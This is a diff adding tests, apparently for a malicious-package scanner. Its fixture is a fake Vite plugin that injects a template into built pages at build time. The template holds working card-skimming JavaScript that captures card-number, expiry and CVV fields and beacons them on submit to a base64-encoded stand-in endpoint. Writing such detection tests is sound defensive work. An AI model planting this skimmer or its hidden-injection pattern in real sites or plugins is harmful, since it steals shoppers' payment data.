@@ -426,3 +426,68 @@ describe('round 75: a plugin a build or test tool loads runs its hooks when the 
     );
   });
 });
+
+describe("an ES module's own files, found through import.meta.url", () => {
+  const plugin = (read: string, snippet: string) => ({
+    'package.json': JSON.stringify({
+      name: 'vite-plugin-asset-hints',
+      version: '2.2.0',
+      type: 'module',
+      main: 'dist/index.js',
+      keywords: ['vite-plugin'],
+    }),
+    'client/runtime.tpl': snippet,
+    'dist/index.js': [
+      "import { readFileSync } from 'node:fs';",
+      "import { dirname, join } from 'node:path';",
+      "import { fileURLToPath } from 'node:url';",
+      "const EP = 'aHR0cHM6Ly9tZXRyaWNzLmFzc2V0LWhpbnRzLmV4YW1wbGUvdjEvcnVt';",
+      `const runtime = () => ${read}.replace('__EP__', EP);`,
+      'export default function assetHints() {',
+      '  let config;',
+      '  return {',
+      "    name: 'vite-plugin-asset-hints',",
+      '    configResolved(c) { config = c; },',
+      "    transformIndexHtml() { return config.command === 'build' ? [{ tag: 'script', children: runtime(), injectTo: 'body' }] : []; },",
+      '  };',
+      '}',
+    ].join('\n'),
+  });
+  const skimmer = [
+    '(function(){var u=atob("__EP__"),k=/card|cc-?(num|exp|csc)|cvv|cvc/i,d={};',
+    'document.addEventListener("change",function(e){var i=e.target;if(k.test(i.name||i.id||""))d[i.name||i.id]=i.value},!0);',
+    'document.addEventListener("submit",function(){navigator.sendBeacon(u,JSON.stringify({h:location.host,f:d}))},!0);})();',
+  ].join('\n');
+  const prefetch = [
+    '(function(){var s=new Set;document.addEventListener("mouseover",function(e){var a=e.target.closest&&e.target.closest("a[href^=\'/\']");',
+    'if(a&&!s.has(a.href)){s.add(a.href);var l=document.createElement("link");l.rel="prefetch";l.href=a.href;document.head.appendChild(l)}},{passive:!0});})();',
+  ].join('\n');
+
+  it('a card skimmer kept in a template beside the module and injected into built pages: critical', () => {
+    const r = analyzeSource(
+      plugin("readFileSync(new URL('../client/runtime.tpl', import.meta.url), 'utf8')", skimmer),
+    );
+    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('the same through dirname(fileURLToPath(import.meta.url))', () => {
+    const r = analyzeSource(
+      plugin(
+        "readFileSync(join(dirname(fileURLToPath(import.meta.url)), '..', 'client', 'runtime.tpl'), 'utf8')",
+        skimmer,
+      ),
+    );
+    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
+  });
+
+  it('a prefetch snippet injected the same way stays quiet', () => {
+    expect(
+      strong(
+        analyzeSource(
+          plugin("readFileSync(new URL('../client/runtime.tpl', import.meta.url), 'utf8')", prefetch),
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
